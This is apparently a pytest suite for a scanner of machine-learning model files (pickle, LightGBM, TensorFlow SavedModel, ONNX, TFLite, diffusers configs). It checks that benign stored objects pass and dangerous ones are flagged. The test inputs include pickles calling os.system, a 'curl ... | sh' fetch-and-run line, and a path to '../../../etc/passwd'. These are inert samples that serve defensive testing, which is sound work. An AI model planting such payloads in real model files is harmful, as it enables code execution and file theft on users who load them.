"""What the makers of a format or library store themselves, beside what only looks like it."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping

import pytest

from mlsec.artifacts.bytes.window import Window
from mlsec.artifacts.facts import FactKind, Inspection
from mlsec.artifacts.inspect.inspect import inspect
from mlsec.core.enums import Severity
from tests.artifacts.builders import onnx_models as onnx
from tests.artifacts.builders import pickles as make
from tests.artifacts.builders import tensorflow_graphs as graphs
from tests.artifacts.builders import tflites
from tests.artifacts.builders.protobufs import message, text
from tests.artifacts.builders.tree_models import LIGHTGBM

FLAGGING = {Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL}
# Classes of the web's libraries that keep what was asked and answered.
WEB_DATA = """requests.models.Response requests.models.PreparedRequest requests.models.Request
    requests.cookies.RequestsCookieJar http.cookiejar.Cookie http.cookiejar.DefaultCookiePolicy
    cookielib.Cookie urllib3._collections.HTTPHeaderDict urllib3.util.retry.Retry
    urllib3.util.timeout.Timeout httpx.Response httpx.Request httpx.Headers httpx.URL""".split()  # noqa: SIM905
# Those that reach it, or whose state may replace what is called.
WEB_ACTS = """requests.sessions.Session requests.adapters.HTTPAdapter requests.api.get
    urllib3.poolmanager.PoolManager httpx.Client http.client.HTTPConnection""".split()  # noqa: SIM905
OUTSIDE = "/srv/export/assets/words.txt"


def seen(name: str, data: bytes) -> Inspection:
    return inspect(Window.of(data, name))


def is_flagged(found: Inspection) -> bool:
    return bool(FLAGGING & {fact.danger for fact in found.facts})


def instance(name: str) -> bytes:
    """An object that is made without its constructor, and given a state."""
    state = b"}" + make.text("status") + b"K\x01s"
    return make.stream(make.stacked(*name.rsplit(".", 1)), b")\x81", state, b"b")


def called(name: str) -> bytes:
    address = make.text("https://files.example.invalid/x")
    return make.stream(make.stacked(*name.rsplit(".", 1)), address, b"\x85R")


@pytest.mark.parametrize("name", WEB_DATA)
def test_a_stored_answer_of_the_web_opens_no_network(name: str) -> None:
    found = seen("a.pkl", instance(name))
    assert not is_flagged(found)
    assert not found.gaps


@pytest.mark.parametrize("name", WEB_ACTS)
@pytest.mark.parametrize("build", [instance, called])
def test_what_reaches_the_web_is_still_denied(name: str, build: Callable[[str], bytes]) -> None:
    assert is_flagged(seen("a.pkl", build(name)))


def test_a_stored_answer_excuses_nothing_in_its_state() -> None:
    state = b"}" + make.text("hooks") + make.stacked("os", "system") + b"s"
    made = make.stacked("requests.models", "Response") + b")\x81" + state + b"b"
    assert is_flagged(seen("a.pkl", make.stream(made)))


def importances(*lines: str) -> bytes:
    block = "".join(f"{line}\n" for line in lines).encode()
    return LIGHTGBM.replace(b"importances:\n", b"importances:\n" + block)


@pytest.mark.parametrize(
    "line", ["petal_length_(cm)=661", "a b=3", "größe [m]=12", "x=y=7", "50%/day=1", "c#=2.5"]
)
def test_features_of_lightgbm_have_any_name(line: str) -> None:
    assert not seen("m.txt", importances(line)).facts


@pytest.mark.parametrize(
    "data",
    [
        importances("import os; os.system('echo inert')"),
        importances("os.system('echo inert | sh') ()=1"),
        importances("curl http://192.0.2.1/x | sh=1"),
        # The same line where no importances stand.
        LIGHTGBM + b"petal_length_(cm)=661\n",
        LIGHTGBM.replace(b"\nTree=0", b"petal (cm)=661\n\nTree=0"),
    ],
)
def test_other_lines_of_lightgbm_are_still_told(data: bytes) -> None:
    assert is_flagged(seen("m.txt", data))


def named(name: str, operator: str, *inputs: str, **attributes: bytes) -> bytes:
    body = b"".join(text(3, one) for one in inputs)
    kept = [message(5, text(1, key), message(2, value)) for key, value in attributes.items()]
    return text(1, name) + text(2, operator) + body + b"".join(kept)


def asset(name: str, file: str = "words.txt") -> bytes:
    return message(1, text(1, f"{name}:0")) + text(2, file)


def listed(name: str, file: str = "words.txt") -> bytes:
    """As TensorFlow lists an asset today."""
    return message(6, asset(name, file))


def collected(name: str, file: str = "words.txt") -> bytes:
    """As TensorFlow before 1.13 did."""
    packed = text(1, "type.googleapis.com/tensorflow.AssetFileDef") + message(2, asset(name, file))
    kept = message(5, message(1, packed))
    return message(4, text(1, "saved_model_assets"), message(2, kept))


CONST = named("words", "Const", value=graphs.strings(OUTSIDE))
SAVER = (named("prefix", "Placeholder"), named("save", "SaveV2", "prefix:0"),
         named("restore", "RestoreV2", "prefix:0"))  # fmt: skip
CALL = named("call", "StatefulPartitionedCall", "words:0", f=message(10, text(1, "f")))


def saved(*nodes: bytes, more: bytes = b"") -> bytes:
    return graphs.saved_model(graphs.meta_graph(graphs.graph(*nodes), more))


@pytest.mark.parametrize("more", [listed("words"), collected("words")])
def test_the_loader_replaces_the_path_of_an_asset(more: bytes) -> None:
    assert not is_flagged(seen("saved_model.pb", saved(CONST, *SAVER, more=more)))


@pytest.mark.parametrize(
    "data",
    [
        saved(CONST, *SAVER),
        saved(CONST, *SAVER, more=listed("other")),
        saved(CONST, *SAVER, more=collected("other")),
        # The collection is read only where no list is.
        saved(CONST, *SAVER, more=listed("other") + collected("words")),
        saved(CONST, *SAVER, named("s", "SaveV2", "words"), more=listed("words")),
        saved(
            CONST, *SAVER, named("i", "Identity", "words:0"), named("s", "SaveV2", "i:0"),
            more=listed("words"),
        ),
        saved(CONST, *SAVER, CALL, more=listed("words")),
        saved(CONST, *SAVER, more=collected("words", "../../../etc/passwd")),
    ],
)  # fmt: skip
def test_a_path_that_nobody_replaces_is_told(data: bytes) -> None:
    assert is_flagged(seen("saved_model.pb", data))


@pytest.mark.parametrize("reader", ["InitializeTableFromTextFileV2", "RestoreV2"])
def test_a_function_reads_the_path_that_it_holds(reader: str) -> None:
    nodes = (named("name", "Const", value=graphs.strings(OUTSIDE)), named("r", reader, "name"))
    body = graphs.graph(named("x", "Placeholder"), library=graphs.function("f", *nodes))
    found = seen("saved_model.pb", graphs.saved_model(graphs.meta_graph(body)))
    kinds = {(fact.kind, fact.danger) for fact in found.facts}
    assert (FactKind.OUTSIDE_REFERENCE, Severity.MEDIUM) in kinds


def test_a_function_reads_what_lies_beside_the_model() -> None:
    nodes = (named("name", "Const", value=graphs.strings("assets/en/words.txt")),
             named("r", "InitializeTableFromTextFileV2", "name"))  # fmt: skip
    body = graphs.graph(named("x", "Placeholder"), library=graphs.function("f", *nodes))
    found = seen("saved_model.pb", graphs.saved_model(graphs.meta_graph(body)))
    assert not is_flagged(found)
    assert not found.gaps


def cloud(operator: str, address: str, domain: str = "com.microsoft.extensions") -> bytes:
    attribute = onnx.attribute("model_uri", text(4, address)) if address else b""
    return onnx.model(onnx.graph(onnx.node(operator, attribute, domain=domain)))


def test_an_operator_of_the_extensions_may_ask_a_public_service() -> None:
    data = cloud("OpenAIAudioToText", "https://api.openai.com/v1/audio/transcriptions")
    found = seen("a.onnx", data)
    assert not is_flagged(found)
    assert found.facts


@pytest.mark.parametrize(
    "data",
    [
        cloud("OpenAIAudioToText", "https://api.openai.com.files.example.invalid/v1"),
        cloud("OpenAIAudioToText", "http://api.openai.com/v1"),
        cloud("OpenAIAudioToText", ""),
        cloud("AzureTextToText", "https://files.example.invalid/v1"),
        cloud("Unheard", "https://api.openai.com/v1"),
        cloud("OpenAIAudioToText", "https://api.openai.com/v1", domain="unheard"),
    ],
)
def test_an_operator_that_sends_what_it_is_given_elsewhere_is_told(data: bytes) -> None:
    assert is_flagged(seen("a.onnx", data))


@pytest.mark.parametrize(
    "name", ["ParseExample", "ParseExampleV2", "DenseImageWarp", "TensorListReserve"]
)
def test_custom_operators_of_tensorflow_lite_itself_are_low(name: str) -> None:
    found = seen("a.tflite", tflites.model(name))
    assert {fact.danger for fact in found.facts} == {Severity.LOW}


@pytest.mark.parametrize("name", ["ParseExampleV9", "parseexample", "ReadExample"])
def test_custom_operators_like_them_are_medium(name: str) -> None:
    assert is_flagged(seen("a.tflite", tflites.model(name)))


def diffusers(owner: object, **more: object) -> bytes:
    value = {"_class_name": owner, "_diffusers_version": "0.31.0", **more}
    return json.dumps(value).encode()


BLOCKS: Mapping[str, list[str]] = {
    "down_block_types": ["DownBlock2D", "AttnDownBlock2D"],
    "block_types": ["linear", "conv"],
}


@pytest.mark.parametrize(
    "owner", ["UNet2DModel", "AutoencoderKL", "SD3Transformer2DModel", "DDIMScheduler"]
)
def test_two_words_in_the_settings_of_a_part_are_no_module(owner: str) -> None:
    assert not is_flagged(seen("config.json", diffusers(owner, **BLOCKS)))


@pytest.mark.parametrize(
    "data",
    [
        diffusers("StableDiffusionPipeline", unet=["my_unet", "Net"]),
        diffusers(["pipeline", "Model"], unet=["my_unet", "Net"]),
        diffusers("ModelForPipeline", unet=["my_unet", "Net"]),
        diffusers("UNet2DModel", down_block_types=["os", "system"]),
    ],
)
def test_a_module_that_a_pipeline_imports_is_told(data: bytes) -> None:
    assert is_flagged(seen("model_index.json", data))
